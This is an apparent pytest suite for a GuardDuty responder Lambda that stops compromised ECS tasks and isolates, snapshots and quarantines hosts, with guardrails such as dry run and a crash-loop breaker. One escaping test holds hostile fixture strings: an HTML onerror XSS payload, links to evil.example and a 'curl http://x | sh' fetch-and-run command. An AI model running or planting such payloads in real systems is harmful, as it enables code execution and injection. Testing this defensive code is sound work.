"""guardduty-responder end to end: the real binary (target/debug/guardduty-responder)
under the Lambda Runtime API emulator, against moto. Each test seeds its own cluster and
notification topic; notifications are read from an SQS queue subscribed to the topic.
Findings are built from the AWS-shaped fixtures in tests/fixtures/guardduty-*.json.
"""

from __future__ import annotations

import pytest

from harness import fleet as fl
from harness.guardduty_responder_helpers import (
    FINDING_TAG,
    host_interfaces,
    interface_groups,
    quarantine_group,
    snapshots_for,
    task_interface,
    QUARANTINE_TAG,
    STOP_REASON_PREFIX,
    container_instance_status,
    group_of,
    instance_state,
    instance_tags,
    service_task_on,
    task_of,
)
from harness.events import FARGATE_FINDING, MEDIUM_FINDING, finding_event, host_finding_event, sequence_event
from harness.notifications import Inbox


@pytest.fixture
def inbox(emulator):
    return Inbox.create(emulator, prefix="gd")


@pytest.fixture
def run(start_function, inbox):
    """run(event, **env) -> InvokeResult: one invocation of a fresh process."""
    return lambda event, **env: start_function("guardduty-responder", inbox=inbox, **env).invoke(event)


@pytest.fixture
def fleet(make_fleet):
    return make_fleet(instances=2, services=["web"], tasks_per_instance=2)


def one(inbox):
    notes = inbox.read()
    assert len(notes) == 1, [n.title for n in notes]
    return notes[0]


def outcomes_of(note) -> dict[str, str]:
    """Each step of the summary notification: its outcome."""
    return {a["action"]: a["outcome"] for a in note.details["actions"]}


def running(fleet, task_arn) -> bool:
    return task_of(fleet, task_arn)["lastStatus"] == "RUNNING"


def test_high_finding_stops_the_task_and_quarantines_its_host(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    desired = fleet.group()["DesiredCapacity"]
    event = finding_event(fleet, task)

    result = run(event)

    assert result.ok, result.error
    stopped = task_of(fleet, task)
    assert stopped["lastStatus"] == "STOPPED"
    assert stopped["stoppedReason"].startswith(STOP_REASON_PREFIX)
    assert event["detail"]["id"] in stopped["stoppedReason"]
    iid = host.ec2_instance_id
    assert container_instance_status(fleet, host) == "DRAINING"
    assert instance_tags(fleet, iid)[QUARANTINE_TAG] == event["detail"]["id"]
    assert group_of(fleet, iid) is None, "detached from its group"
    assert instance_state(fleet, iid) == "running", "kept for forensics"
    group = fleet.group()
    assert group["DesiredCapacity"] == desired, "the group replaces the host"
    assert iid not in [i["InstanceId"] for i in group["Instances"]]
    note = one(inbox)
    assert note.action == "contain" and note.outcome == "done"
    assert "[HIGH]" in note.subject
    assert note.title.startswith("High Execution:Runtime/ReverseShell in")
    assert outcomes_of(note) == {
        "isolate-network": "skipped",
        "snapshot-host": "done",
        "stop-task": "done",
        "drain-host": "done",
        "tag-host": "done",
        "protect-host": "done",
        "detach-host": "done",
    }
    assert note.details["evidence"]["task"]["arn"] == task
    assert note.details["evidence"]["containers"][0]["image"]
    assert note.details["finding"]["id"] == event["detail"]["id"]


def test_low_severity_finding_is_only_notified(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, template=MEDIUM_FINDING))
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    note = one(inbox)
    assert note.outcome == "skipped"
    assert "below MIN_SEVERITY" in note.title


def test_unmanaged_cluster_is_untouched(run, make_fleet, inbox):
    fleet = make_fleet(instances=1, services=["web"], managed=False)
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, severity=9.8))
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    assert group_of(fleet, fleet.instances[0].ec2_instance_id) == fleet.asg_name
    note = one(inbox)
    assert note.outcome == "skipped" and "not opted in" in note.title


def test_sample_finding_is_not_acted_on(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, sample=True))
    assert result.ok, result.error
    assert running(fleet, task)
    note = one(inbox)
    assert note.outcome == "skipped" and "sample finding" in note.title


def test_duplicate_finding_is_already_contained_and_acts_once(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    event = finding_event(fleet, task)
    assert run(event).ok
    first = task_of(fleet, task)["stoppedAt"]
    inbox.read()

    again = finding_event(fleet, task, finding_id=event["detail"]["id"], count=4)
    result = run(again)

    assert result.ok, result.error
    assert task_of(fleet, task)["stoppedAt"] == first
    note = one(inbox)
    assert note.outcome == "already_done"
    assert "already contained" in note.title
    assert "[HIGH]" not in note.subject
    snaps = sorted(s["SnapshotId"] for s in snapshots_for(fleet, event["detail"]["id"]))
    assert snaps and sorted(note.details["evidence_taken"]["snapshots"]) == snaps, "the first delivery's evidence"


def test_task_stopped_by_someone_else_is_already_contained(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    fl.stop_tasks(fleet, task_arns=[task], reason="stopped by the on-call engineer")
    result = run(finding_event(fleet, task), QUARANTINE_HOST="false")
    assert result.ok, result.error
    note = one(inbox)
    assert note.outcome == "already_done" and "already contained" in note.title
    assert "on-call engineer" in note.description


def test_task_not_found_is_reported_and_nothing_changes(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    event = finding_event(fleet, task)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["arn"] = (
        task.rsplit("/", 1)[0] + "/00000000000000000000000000000000"
    )
    result = run(event)
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    note = one(inbox)
    assert note.outcome == "skipped" and "task not found" in note.title


def test_fargate_task_is_stopped_and_no_host_is_touched(run, fleet, inbox):
    ecs = fleet.ecs
    family = fleet.task_definitions["web"]
    task = ecs.run_task(cluster=fleet.cluster_name, taskDefinition=family, launchType="FARGATE", count=1)[
        "tasks"
    ][0]["taskArn"]
    event = finding_event(fleet, task, template=FARGATE_FINDING, severity=8.0)
    event["detail"]["resource"].pop("instanceDetails", None)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["launchType"] = "FARGATE"
    result = run(event)
    assert result.ok, result.error
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    for inst in fleet.instances:
        assert container_instance_status(fleet, inst) == "ACTIVE"
        assert group_of(fleet, inst.ec2_instance_id) == fleet.asg_name
    note = one(inbox)
    assert outcomes_of(note) == {
        "isolate-network": "skipped",
        "snapshot-host": "skipped",
        "stop-task": "done",
        "quarantine-host": "skipped",
    }


def test_breaker_trips_after_max_stops_and_raises_a_critical(run, make_fleet, inbox):
    fleet = make_fleet(instances=2, services=["web"], tasks_per_instance=2)
    tasks = [t["taskArn"] for t in fl.all_tasks(fleet) if fl.service_of(t) == "web"]
    env = {"MAX_STOPS_PER_SERVICE": "2", "QUARANTINE_HOST": "false"}
    for task in tasks[:2]:
        assert run(finding_event(fleet, task), **env).ok
        fl.start_service_tasks(fleet, "web", fleet.instances[0])  # ECS replaces it
    inbox.read()

    result = run(finding_event(fleet, tasks[2]), **env)

    assert result.ok, result.error
    assert running(fleet, tasks[2])
    note = one(inbox)
    assert "[CRITICAL]" in note.subject
    assert "crash-loop breaker" in note.title
    assert note.details["recent_stops"] == 2
    assert note.outcome == "skipped"


def test_health_floor_holds_high_findings_but_not_critical_ones(run, make_fleet, inbox):
    fleet = make_fleet(instances=1, services=["web"], tasks_per_instance=2)
    task = service_task_on(fleet, fleet.instances[0])
    env = {"MIN_HEALTHY_TASKS": "2", "QUARANTINE_HOST": "false"}

    assert run(finding_event(fleet, task, severity=8.0), **env).ok
    assert running(fleet, task)
    note = one(inbox)
    assert "health floor" in note.title and "[HIGH]" in note.subject

    assert run(finding_event(fleet, task, severity=9.4), **env).ok
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    note = one(inbox)
    assert "[CRITICAL]" in note.subject
    assert "stopped anyway" in note.description


def test_malicious_runtime_strings_come_out_escaped(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    evil = "sh`](http://evil.example)<img src=x onerror=alert(1)>\n@channel *pwn*"
    result = run(
        finding_event(fleet, task, process_name=evil, command_line="curl http://x | sh # [go](http://evil)"),
        QUARANTINE_HOST="false",
    )
    assert result.ok, result.error
    note = one(inbox)
    for text in (note.description, note.context["details"]):
        assert "<img" not in text.replace("\\<img", "")
        assert "](http" not in text
        assert "@channel" not in text.replace("\\@channel", "")
    assert "\\<img" in note.description


def test_dry_run_changes_nothing_and_notifies_the_plan(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    result = run(finding_event(fleet, task), DRY_RUN="true")
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, host) == "ACTIVE"
    assert group_of(fleet, host.ec2_instance_id) == fleet.asg_name
    assert QUARANTINE_TAG not in instance_tags(fleet, host.ec2_instance_id)
    note = one(inbox)
    assert note.outcome == "planned" and "[dry run]" in note.subject
    # Every change is only planned; the one step not configured here (isolation, no
    # QUARANTINE_SECURITY_GROUP) says it was skipped.
    outcomes = outcomes_of(note)
    assert outcomes.pop("isolate-network", "skipped") == "skipped"
    assert set(outcomes.values()) == {"planned"}, outcomes


def test_malformed_finding_fails_as_a_bad_event_and_changes_nothing(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    event = finding_event(fleet, task)
    del event["detail"]["severity"]
    result = run(event)
    assert not result.ok
    assert result.error["errorType"] == "BadEvent"
    assert running(fleet, task)
    assert inbox.read() == []


def changes(proxy) -> list[str]:
    """The state-changing AWS calls a function made (notifications aside)."""
    return [f"{c.service}:{c.operation}" for c in proxy.mutations() if c.service != "sns"]


def order_of(note) -> list[str]:
    return [a["action"] for a in note.details["actions"]]


def test_an_ec2_task_is_isolated_and_its_host_snapshotted_before_the_stop(run, fleet, inbox):
    host = fleet.instances[0]
    iid = host.ec2_instance_id
    task = service_task_on(fleet, host)
    group = quarantine_group(fleet, iid)
    enis = host_interfaces(fleet, iid)
    event = finding_event(fleet, task)
    finding_id = event["detail"]["id"]

    result = run(event, QUARANTINE_SECURITY_GROUP=group)

    assert result.ok, result.error
    assert enis and all(interface_groups(fleet, e) == [group] for e in enis), "bridge networking: the host is cut off"
    snaps = snapshots_for(fleet, finding_id)
    assert snaps, "the host's volumes are snapshotted, tagged with the finding"
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    assert instance_tags(fleet, iid)[QUARANTINE_TAG] == finding_id
    note = one(inbox)
    order = order_of(note)
    assert order.index("isolate-network") < order.index("snapshot-host") < order.index("stop-task"), order
    assert order.index("stop-task") < order.index("drain-host") < order.index("detach-host"), order
    taken = note.details["evidence_taken"]
    assert sorted(taken["snapshots"]) == sorted(s["SnapshotId"] for s in snaps)
    assert sorted(taken["isolated_network_interfaces"]) == sorted(enis)
    assert taken["quarantine_security_group"] == group

    again = finding_event(fleet, task, finding_id=finding_id, count=2)
    assert run(again, QUARANTINE_SECURITY_GROUP=group).ok
    assert len(snapshots_for(fleet, finding_id)) == len(snaps), "a redelivered finding takes no second snapshot"


def test_a_fargate_task_is_isolated_then_stopped_without_snapshots(run, fleet, inbox):
    ecs, ec2 = fleet.ecs, fleet.ec2
    subnet = ec2.describe_subnets()["Subnets"][0]
    group = ec2.create_security_group(GroupName=f"q-{fleet.cluster_name}", Description="deny all", VpcId=subnet["VpcId"])["GroupId"]
    app = ec2.create_security_group(GroupName=f"app-{fleet.cluster_name}", Description="app", VpcId=subnet["VpcId"])["GroupId"]
    family = ecs.register_task_definition(
        family=f"fg-{fleet.cluster_name}", networkMode="awsvpc", requiresCompatibilities=["FARGATE"], cpu="256", memory="512",
        containerDefinitions=[{"name": "app", "image": "public.ecr.aws/docker/library/busybox:latest", "memory": 128}],
    )["taskDefinition"]["taskDefinitionArn"]
    task = ecs.run_task(cluster=fleet.cluster_name, taskDefinition=family, launchType="FARGATE", count=1,
                        networkConfiguration={"awsvpcConfiguration": {"subnets": [subnet["SubnetId"]], "securityGroups": [app]}},
                        )["tasks"][0]["taskArn"]
    eni = task_interface(fleet, task)
    assert eni, "the emulator attaches an ENI to an awsvpc task"
    event = finding_event(fleet, task, template=FARGATE_FINDING, severity=8.0)
    event["detail"]["resource"].pop("instanceDetails", None)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["launchType"] = "FARGATE"

    result = run(event, QUARANTINE_SECURITY_GROUP=group)

    assert result.ok, result.error
    assert interface_groups(fleet, eni) == [group], "moved from the app's group to the quarantine group"
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    assert snapshots_for(fleet, event["detail"]["id"]) == []
    for inst in fleet.instances:
        assert container_instance_status(fleet, inst) == "ACTIVE"
    note = one(inbox)
    assert outcomes_of(note) == {"isolate-network": "done", "snapshot-host": "skipped", "stop-task": "done", "quarantine-host": "skipped"}
    assert order_of(note).index("isolate-network") < order_of(note).index("stop-task")
    assert note.details["evidence_taken"]["isolated_network_interfaces"] == [eni]


def test_a_host_finding_isolates_snapshots_and_quarantines_the_host_and_stops_no_task(run, fleet, inbox):
    host = fleet.instances[0]
    iid = host.ec2_instance_id
    tasks = [t["taskArn"] for t in fl.tasks_on(fleet, host)]
    group = quarantine_group(fleet, iid)
    event = host_finding_event(fleet, iid, with_cluster=False)

    result = run(event, QUARANTINE_SECURITY_GROUP=group)

    assert result.ok, result.error
    assert all(interface_groups(fleet, e) == [group] for e in host_interfaces(fleet, iid))
    assert snapshots_for(fleet, event["detail"]["id"])
    assert container_instance_status(fleet, host) == "DRAINING"
    assert instance_tags(fleet, iid)[QUARANTINE_TAG] == event["detail"]["id"]
    assert group_of(fleet, iid) is None and instance_state(fleet, iid) == "running"
    assert all(running(fleet, t) for t in tasks), "a host finding stops no task by itself"
    note = one(inbox)
    assert note.action == "contain" and note.outcome == "done"
    assert "[HIGH]" in note.subject
    assert set(order_of(note)) >= {"isolate-network", "snapshot-host", "drain-host", "tag-host", "protect-host", "detach-host"}
    assert "stop-task" not in order_of(note)


def test_a_host_outside_managed_clusters_is_only_notified(run, make_fleet, inbox):
    fleet = make_fleet(instances=1, services=["web"], managed=False)
    iid = fleet.instances[0].ec2_instance_id
    result = run(host_finding_event(fleet, iid))
    assert result.ok, result.error
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    assert group_of(fleet, iid) == fleet.asg_name
    assert QUARANTINE_TAG not in instance_tags(fleet, iid)
    note = one(inbox)
    assert note.outcome == "skipped" and "not opted in" in note.title


def test_an_attack_sequence_is_a_critical_notice_and_contains_its_tasks_and_hosts(run, fleet, inbox):
    host = fleet.instances[0]
    iid = host.ec2_instance_id
    task = service_task_on(fleet, host)
    event = sequence_event(fleet, [task], [iid])

    result = run(event)

    assert result.ok, result.error
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    assert event["detail"]["id"] in task_of(fleet, task)["stoppedReason"]
    assert container_instance_status(fleet, host) == "DRAINING"
    assert group_of(fleet, iid) is None
    notes = inbox.read()
    summary = [n for n in notes if n.action == "attack-sequence"]
    assert len(summary) == 1, [n.title for n in notes]
    s = summary[0]
    assert "[CRITICAL]" in s.subject
    assert "AttackSequence:ECS/CompromisedCluster" in s.title
    assert s.details["sequence"]["tasks"] == [task]
    assert s.details["sequence"]["hosts"] == [iid]
    assert [g["name"] for g in s.details["sequence"]["signals"]][:2] == [
        "Execution:Runtime/ReverseShell", "Execution:Runtime/NewBinaryExecuted"]
    contained = [n for n in notes if n.action == "contain"]
    assert any(n.outcome == "done" for n in contained), [(n.title, n.outcome) for n in contained]
    assert snapshots_for(fleet, event["detail"]["id"]), "one set of snapshots for the sequence"


def test_the_rule_delivers_task_host_and_attack_sequence_findings_and_nothing_else():
    """The EventBridge rule of template.yaml, matched by the emulator's EventBridge."""
    import json

    import yaml
    from moto.events.models import EventPattern

    from harness.events import HOST_FINDING, SEQUENCE_FINDING, fixture
    from harness.iam import TEMPLATE, _Loader

    doc = yaml.load(TEMPLATE.read_text(), Loader=_Loader)  # noqa: S506 - a SafeLoader subclass
    pattern = EventPattern.load(json.dumps(doc["Resources"]["GuardDutyRuntimeFindingRule"]["Properties"]["EventPattern"]))
    for name in ("guardduty-reverse-shell-ec2.json", FARGATE_FINDING, HOST_FINDING, SEQUENCE_FINDING):
        assert pattern.matches_event(fixture(name)), name
    other = fixture(HOST_FINDING)
    other["detail"]["service"]["featureName"] = "EbsMalwareProtection"
    assert not pattern.matches_event(other), "only Runtime Monitoring findings about a host"
    low = fixture(HOST_FINDING)
    low["detail"]["severity"] = 2.0
    assert not pattern.matches_event(low), "Low findings never invoke the function"


# --------------------------------------------------------------------------
# redeliveries, attack sequence rails, and a scale-in catching a quarantined host
# --------------------------------------------------------------------------


def test_a_redelivered_host_finding_changes_nothing_and_says_already_contained(run, fleet, inbox, proxy):
    host = fleet.instances[0]
    iid = host.ec2_instance_id
    group = quarantine_group(fleet, iid)
    event = host_finding_event(fleet, iid)  # naming its (managed) cluster this time
    finding_id = event["detail"]["id"]
    assert run(event, QUARANTINE_SECURITY_GROUP=group).ok
    first = one(inbox)
    assert (first.action, first.outcome) == ("contain", "done")
    snaps = sorted(s["SnapshotId"] for s in snapshots_for(fleet, finding_id))
    enis = sorted(host_interfaces(fleet, iid))

    again = host_finding_event(fleet, iid, finding_id=finding_id)
    result = run(again, QUARANTINE_SECURITY_GROUP=group, AWS_ENDPOINT_URL=proxy.url)

    assert result.ok, result.error
    assert proxy.calls("ec2", "DescribeInstances"), "the second delivery looked (through the proxy)"
    assert changes(proxy) == []
    note = one(inbox)
    assert (note.action, note.outcome) == ("contain", "already_done")
    assert "already contained" in note.title and "[HIGH]" not in note.subject
    assert finding_id in note.description
    assert outcomes_of(note) == {"isolate-network": "already_done", "snapshot-host": "already_done",
                        "quarantine-host": "already_done"}
    taken = note.details["evidence_taken"]
    assert sorted(taken["snapshots"]) == snaps, "the evidence kept by the first delivery is named again"
    assert sorted(taken["isolated_network_interfaces"]) == enis
    assert taken["quarantine_security_group"] == group


def test_a_redelivered_attack_sequence_raises_no_second_critical_alarm(run, fleet, inbox, proxy):
    host = fleet.instances[0]
    iid = host.ec2_instance_id
    task = service_task_on(fleet, host)
    event = sequence_event(fleet, [task], [iid])
    assert run(event).ok
    first = [n for n in inbox.read() if n.action == "attack-sequence"]
    assert [(n.outcome, n.attributes["severity"]) for n in first] == [("done", "critical")]
    assert [(c["kind"], c["resource"], c["outcome"]) for c in first[0].details["containment"]] == [
        ("task", task, "done"), ("host", iid, "already_done")]
    snaps = len(snapshots_for(fleet, event["detail"]["id"]))

    again = sequence_event(fleet, [task], [iid], finding_id=event["detail"]["id"])
    result = run(again, AWS_ENDPOINT_URL=proxy.url)

    assert result.ok, result.error
    assert proxy.calls("ec2", "DescribeInstances"), "the second delivery looked (through the proxy)"
    assert changes(proxy) == []
    assert len(snapshots_for(fleet, event["detail"]["id"])) == snaps
    notes = inbox.read()
    assert sorted((n.action, n.outcome) for n in notes) == [
        ("attack-sequence", "already_done"), ("contain", "already_done"), ("contain", "already_done")]
    summary = next(n for n in notes if n.action == "attack-sequence")
    assert summary.attributes["severity"] == "info" and "already contained" in summary.title


def test_an_attack_sequence_contains_only_what_is_in_opted_in_clusters(run, fleet, make_fleet, inbox):
    theirs = make_fleet(instances=1, services=["web"], managed=False)
    ours_task = service_task_on(fleet, fleet.instances[0])
    their_task = service_task_on(theirs, theirs.instances[0])
    their_host = theirs.instances[0].ec2_instance_id
    event = sequence_event(fleet, [ours_task, their_task], [their_host])

    result = run(event)

    assert result.ok, result.error
    assert task_of(fleet, ours_task)["lastStatus"] == "STOPPED"
    assert running(theirs, their_task), "a cluster that did not opt in is never touched"
    assert container_instance_status(theirs, theirs.instances[0]) == "ACTIVE"
    assert group_of(theirs, their_host) == theirs.asg_name
    assert QUARANTINE_TAG not in instance_tags(theirs, their_host)
    notes = inbox.read()
    summary = next(n for n in notes if n.action == "attack-sequence")
    assert summary.outcome == "done" and summary.attributes["severity"] == "critical"
    assert {c["resource"]: c["outcome"] for c in summary.details["containment"]} == {
        ours_task: "done", their_task: "skipped", their_host: "skipped"}
    skipped = sorted(n.title for n in notes if n.action == "notify")
    assert len(skipped) == 2 and all("not opted in" in t for t in skipped), skipped


@pytest.mark.parametrize("severity, stopped", [(8.5, False), (9.5, True)], ids=["high holds", "critical overrides"])
def test_an_attack_sequence_keeps_the_health_floor_which_only_critical_overrides(run, make_fleet, inbox, severity,
                                                                                stopped):
    fleet = make_fleet(instances=1, services=["web"], tasks_per_instance=2)
    task = service_task_on(fleet, fleet.instances[0])
    event = sequence_event(fleet, [task], [], severity=severity)
    result = run(event, MIN_HEALTHY_TASKS="2", QUARANTINE_HOST="false")
    assert result.ok, result.error
    assert task_of(fleet, task)["lastStatus"] == ("STOPPED" if stopped else "RUNNING")
    notes = inbox.read()
    summary = next(n for n in notes if n.action == "attack-sequence")
    assert summary.outcome == ("done" if stopped else "skipped")
    if stopped:
        contained = next(n for n in notes if n.action == "contain")
        assert "stopped anyway" in contained.description and "[CRITICAL]" in contained.subject
    else:
        assert any("health floor" in n.title for n in notes), [n.title for n in notes]


@pytest.mark.parametrize(
    "env, severity, hosts, verdict",
    [
        ({"MIN_SEVERITY": "9"}, 8.0, True, "below MIN_SEVERITY"),
        ({"FINDING_TYPES_DENY": "AttackSequence:"}, 9.5, True, "type denied"),
        ({"FINDING_TYPES_ALLOW": "Execution:"}, 9.5, True, "type not allowed"),
        # Service exclusions are about tasks; a host named too would still be quarantined.
        ({"ACTION_EXCLUDE_SERVICES": "web"}, 9.5, False, "service excluded"),
        ({"ACTION_EXCLUDE_TASK_FAMILIES": "web"}, 9.5, False, "family excluded"),
    ],
    ids=["severity", "deny list", "allow list", "excluded service", "excluded family"],
)
def test_an_attack_sequence_keeps_the_rails_of_single_findings(run, fleet, inbox, env, severity, hosts, verdict):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    family = task_of(fleet, task)["taskDefinitionArn"].rsplit("/", 1)[-1].split(":")[0]
    env = {k: (family if v == "web" and k == "ACTION_EXCLUDE_TASK_FAMILIES" else v) for k, v in env.items()}
    event = sequence_event(fleet, [task], [host.ec2_instance_id] if hosts else [], severity=severity)

    result = run(event, **env)

    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, host) == "ACTIVE"
    assert group_of(fleet, host.ec2_instance_id) == fleet.asg_name
    assert snapshots_for(fleet, event["detail"]["id"]) == []
    notes = inbox.read()
    held = [n for n in notes if n.action == "notify"]
    assert held and all(verdict in n.title for n in held), [n.title for n in held]
    summary = next(n for n in notes if n.action == "attack-sequence")
    assert summary.outcome == "skipped" and summary.attributes["severity"] == "critical"
    assert "needs a person" in summary.title


def test_an_attack_sequence_keeps_the_crash_loop_breaker(run, fleet, inbox):
    tasks = [t["taskArn"] for t in fl.all_tasks(fleet) if fl.service_of(t) == "web"]
    env = {"MAX_STOPS_PER_SERVICE": "1", "QUARANTINE_HOST": "false"}
    assert run(finding_event(fleet, tasks[0]), **env).ok
    inbox.read()

    result = run(sequence_event(fleet, [tasks[1]], [], severity=9.5), **env)

    assert result.ok, result.error
    assert running(fleet, tasks[1]), "even a Critical sequence does not stop past the breaker"
    notes = inbox.read()
    held = next(n for n in notes if n.action == "notify")
    assert "crash-loop breaker" in held.title and "[CRITICAL]" in held.subject


def test_a_host_caught_by_a_scale_in_is_snapshotted_tagged_and_then_held_by_instance_drain(
        run, start_function, make_fleet, inbox):
    """The two functions together: a scale-in has already picked the host (its terminate
    action is waiting) when its finding arrives. guardduty-responder cannot detach a
    terminating instance, so it keeps what it can (snapshots, DRAINING, the quarantine
    tag) and says so; instance-drain then sees the tag, does not let the terminate go on
    quietly, and holds it until a person completes the action."""
    from harness.instance_drain_helpers import action_of

    fleet = make_fleet(instances=2, services=["web"], tasks_per_instance=1)
    victim = fleet.instances[0]
    iid = victim.ec2_instance_id
    lifecycle = fl.fire_lifecycle(fleet.endpoint, fleet, victim)
    event = host_finding_event(fleet, iid, with_cluster=False)

    assert run(event).ok
    assert instance_tags(fleet, iid)[QUARANTINE_TAG] == event["detail"]["id"]
    assert snapshots_for(fleet, event["detail"]["id"]), "the disk is kept before the terminate goes on"
    note = one(inbox)
    assert note.outcome == "warning"
    detach = next(a for a in note.details["actions"] if a["action"] == "detach-host")
    assert detach["outcome"] == "warning" and "Terminating:Wait" in detach["why"]

    h = start_function("instance-drain")
    h.send(lifecycle)
    h.check()
    (held,) = h.inbox.read()
    assert (held.context["action"], held.attributes["severity"]) == ("hold", "high")
    action = action_of(fleet, lifecycle)
    assert action["status"] == "active" and action["heartbeats"] >= 1
    assert instance_state(fleet, iid) == "running"
    fleet.autoscaling.complete_lifecycle_action(
        AutoScalingGroupName=fleet.asg_name, LifecycleHookName=fleet.terminate_hook,
        InstanceId=iid, LifecycleActionResult="CONTINUE")
    h.check()
    assert [(n.context["action"], n.context["outcome"]) for n in h.inbox.read()] == [("hold", "already_done")]


def _responder_statements() -> dict[str, dict]:
    import yaml

    from harness.iam import TEMPLATE, _Loader

    doc = yaml.load(TEMPLATE.read_text(), Loader=_Loader)  # noqa: S506 - a SafeLoader subclass
    role = doc["Resources"]["GuardDutyResponderRole"]["Properties"]
    return {s["Sid"]: s for p in role["Policies"] for s in p["PolicyDocument"]["Statement"]}


def _numbered(params: dict, prefix: str) -> list[str]:
    """Values of a Query-protocol list (`Prefix.1`, `Prefix.2`, ...) as recorded."""
    return [v for k, v in sorted(params.items()) if k.startswith(prefix + ".") and k.count(".") == prefix.count(".") + 1]


def test_the_responders_ec2_writes_fit_the_conditions_its_role_sets(run, fleet, inbox, proxy):
    """The emulator does not evaluate IAM: the calls a full containment made (isolation,
    snapshots, the quarantine tag) are held here against the conditions of the role's
    statements in template.yaml, so a call that IAM would refuse in a real account fails
    this test instead."""
    statements = _responder_statements()
    host = fleet.instances[0]
    group = quarantine_group(fleet, host.ec2_instance_id)
    event = finding_event(fleet, service_task_on(fleet, host))
    assert run(event, QUARANTINE_SECURITY_GROUP=group, AWS_ENDPOINT_URL=proxy.url).ok
    note = one(inbox)
    assert note.outcome == "done", note.details["actions"]

    # Isolation: the only group an interface may be moved to is the quarantine group.
    isolate = statements["IsolateIntoQuarantineSecurityGroup"]
    groups = [r for r in isolate["Resource"] if ":security-group/" in r]
    assert groups == ["arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:security-group/${GuardDutyQuarantineSecurityGroup}"]
    modified = proxy.calls("ec2", "ModifyNetworkInterfaceAttribute")
    assert modified
    for call in modified:
        assert _numbered(call.params, "SecurityGroupId") == [group], call.params

    # Snapshots: created only carrying the finding tag (aws:RequestTag), tagged only on create.
    carry = statements["SnapshotsCarryTheFindingTag"]["Condition"]["StringLike"]
    assert carry == {"aws:RequestTag/ecs-autopilot:finding": "?*"}
    assert statements["TagSnapshotsOnCreate"]["Condition"] == {"StringEquals": {"ec2:CreateAction": "CreateSnapshots"}}
    created = proxy.calls("ec2", "CreateSnapshots")
    assert created
    for call in created:
        p = call.params
        assert p.get("TagSpecification.1.ResourceType") == "snapshot", p
        tags = {p[k]: p[k[: -len("Key")] + "Value"] for k in p
                if k.startswith("TagSpecification.1.Tag.") and k.endswith(".Key")}
        assert tags.get("ecs-autopilot:finding") == event["detail"]["id"], p

    # Instance tags: only the quarantine keys.
    allowed = set(statements["TagQuarantinedInstances"]["Condition"]["ForAllValues:StringEquals"]["aws:TagKeys"])
    tagged = proxy.calls("ec2", "CreateTags")
    assert tagged
    for call in tagged:
        p = call.params
        keys = {p[k] for k in p if k.startswith("Tag.") and k.endswith(".Key")}
        assert keys and keys <= allowed, p
        assert all(r.startswith("i-") for r in _numbered(p, "ResourceId")), p
